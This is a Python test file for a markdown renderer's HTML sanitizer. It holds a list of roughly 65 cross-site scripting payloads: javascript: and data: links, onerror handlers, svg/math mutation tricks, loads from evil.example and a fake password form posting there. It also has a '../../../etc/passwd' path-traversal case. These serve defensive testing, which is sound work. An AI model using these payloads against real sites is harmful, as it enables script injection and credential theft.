"""Markdown as HTML: what is kept, where links lead, and that nothing active comes out."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from services.markup import Place, render_markdown, render_text

PLACE = Place("/ann/demo", "abc", "docs")
REL = 'rel="nofollow noopener noreferrer"'


class Judge(HTMLParser):
    """Reads HTML and names all that could run, load styles or imitate the page around it."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("script", "style", "iframe", "object", "embed", "form", "link", "meta", "base",
                   "svg", "math", "template", "button", "textarea", "select", "video", "audio",
                   "frame", "frameset", "applet", "marquee", "body", "html", "head"):  # fmt: skip
            self.faults.append(tag)
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "srcdoc", "formaction", "srcset", "ping"):
                self.faults.append(f"{tag} {name}")
            scheme = urlsplit((value or "").strip()).scheme if name in ("href", "src") else ""
            if scheme not in ("", "http", "https", "mailto"):
                self.faults.append(f"{tag} {name}={value}")
            if name == "id" and not (value or "").startswith("user-content-"):
                self.faults.append(f"{tag} id={value}")
            if (tag, name) == ("input", "type") and value != "checkbox":
                self.faults.append(f"input {value}")

    handle_startendtag = handle_starttag


ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)//",
    '<img """><script>alert(1)</script>">',
    "<IMG SRC=javascript:alert('XSS')>",
    "<img src='java\tscript:alert(1)'>",
    "<a href='java&#x0A;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "[x](javascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    '![x](https://a.example/" onerror="alert(1))',
    "<javascript:alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext></p><img src=x onerror=alert(1)></mtext></math>",
    "<math><mi><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%'>over all</p>",
    "<div class='flash-error js-navigation' id='login-form' name='x'>x</div>",
    "<form action=//evil.example><input type=password name=p><button>Sign in</button></form>",
    "<input type=image src=x formaction=javascript:alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<table background=javascript:alert(1)><tr><td>x</td></tr></table>",
    "<a href='https://a.example' target=_blank onclick=alert(1)>x</a>",
    "<picture><source srcset='x' onerror=alert(1)><img src=x></picture>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    "</title><img src=x onerror=alert(1)>",
    "```html\n<script>alert(1)</script>\n```",
    '``` "><script>alert(1)</script>\nx\n```',
    "# <img src=x onerror=alert(1)>",
    '# a" onmouseover="alert(1)',
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "> [!NOTE]\n> <script>alert(1)</script>",
    "|<script>alert(1)</script>|\n|---|\n|<img src=x onerror=alert(1)>|",
    "<h1 id='x' onclick=alert(1)>x</h1>",
    "\x00<script>alert(1)</script>",
    '<a href="\\\\evil.example">x</a>',
    "<template><script>alert(1)</script></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)</script>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_active_comes_out(attack: str) -> None:
    for text in (attack, f"- {attack}", f"a {attack} b", f"<div>\n\n{attack}\n\n</div>"):
        judge = Judge()
        judge.feed(render_markdown(text, PLACE))
        judge.close()
        assert judge.faults == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_plain_text_stays_plain(attack: str) -> None:
    judge = Judge()
    judge.feed(render_text(attack))
    judge.close()
    assert judge.faults == []


@pytest.mark.parametrize(
    ("markdown", "expected"),
    [
        ("*a* **b** ~~c~~ `d`", "<p><em>a</em> <strong>b</strong> <del>c</del> <code>d</code></p>"),
        ("|a|\n|:-:|\n|1|", '<th align="center">a</th>'),
        ("```mermaid\na-->b\n```", '<pre lang="mermaid"><code>a--&gt;b\n</code></pre>'),
        ("www.example.org", f'<a href="http://www.example.org" {REL}>www.example.org</a>'),
        ("ann@example.org", f'<a href="mailto:ann@example.org" {REL}>ann@example.org</a>'),
        ("<kbd>Ctrl</kbd>", "<kbd>Ctrl</kbd>"),
        ("<p align=center>x</p>", '<p align="center">x</p>'),
        ("<details><summary>s</summary>\n\nx\n\n</details>", "<summary>s</summary>"),
        ("# Get *going*!", '<h1 id="user-content-get-going">Get <em>going</em>!</h1>'),
        ("# A\n\n## A", '<h2 id="user-content-a-1">A</h2>'),
        ("# Über uns", '<h1 id="user-content-über-uns">'),
        ("[x](#get-going)", '<a href="#user-content-get-going"'),
        ("a[^1]\n\n[^1]: b", '<a href="#user-content-fn-1" id="user-content-fnref-1"'),
        ("a[^1]\n\n[^1]: b", '<li id="user-content-fn-1">'),
        (
            "> [!WARNING]\n> hot",
            '<blockquote class="markdown-alert markdown-alert-warning">\n'
            '<p class="markdown-alert-title">Warning</p>\n<p>hot</p>\n</blockquote>',
        ),
        ("> [!SHOUT]\n> x", "<blockquote>\n<p>[!SHOUT]"),
    ],
)
def test_githubs_markdown(markdown: str, expected: str) -> None:
    assert expected in render_markdown(markdown, PLACE)


def test_task_lists_cannot_be_clicked() -> None:
    html = render_markdown("- [x] done\n- [ ] open", PLACE)
    assert html.count("<li><input ") == html.count('type="checkbox"') == 2
    assert html.count('disabled=""') == 2
    assert html.count('checked=""') == 1


@pytest.mark.parametrize(
    ("address", "expected"),
    [
        ("guide.md", "/ann/demo/blob/abc/docs/guide.md"),
        ("./guide.md#top", "/ann/demo/blob/abc/docs/guide.md#top"),
        ("../README.md", "/ann/demo/blob/abc/README.md"),
        ("../../../etc/passwd", "/ann/demo/blob/abc/etc/passwd"),
        ("/src/a%20b.py?raw=1", "/ann/demo/blob/abc/src/a%20b.py?raw=1"),
        ("..", "/ann/demo/blob/abc"),
        ("https://example.org/a", "https://example.org/a"),
        ("//example.org/a", "//example.org/a"),
        ("mailto:a@example.org", "mailto:a@example.org"),
        ("?tab=1", "?tab=1"),
    ],
)
def test_links(address: str, expected: str) -> None:
    assert f'<a href="{expected}"' in render_markdown(f"[x](<{address}>)", PLACE)


def test_images_lead_to_raw_files() -> None:
    html = render_markdown("![logo](logo.png)", Place("/ann/demo", "a/b", ""))
    assert html == '<p><img src="/ann/demo/raw/a/b/logo.png" alt="logo"></p>\n'


@pytest.mark.parametrize(
    "text", ["<div>" * 50_000, "> " * 20_000 + "a", "<object><div></object>" * 5_000]
)
def test_what_is_nested_beyond_sense_is_plain_text(text: str) -> None:
    html = render_markdown(text, PLACE)
    assert html.startswith("<pre>")
    assert html.count("<") == 2


def test_nesting_as_people_write_it_is_rendered() -> None:
    lists = "".join("  " * depth + "* a\n" for depth in range(40))
    assert render_markdown(lists, PLACE).count("<li>") == 40
    paragraphs = "<p>a\n\n" * 500 + "<li>b\n\n" * 500
    assert not render_markdown(paragraphs, PLACE).startswith("<pre>")


def test_addresses_in_plain_text() -> None:
    assert render_text("see https://a.example/?b=1&c=2, <ok> (http://b.example/x).") == (
        f'see <a href="https://a.example/?b=1&amp;c=2" {REL}>https://a.example/?b=1&amp;c=2</a>, '
        f'&lt;ok&gt; (<a href="http://b.example/x" {REL}>http://b.example/x</a>).'
    )
    assert render_text("https://") == "https://"
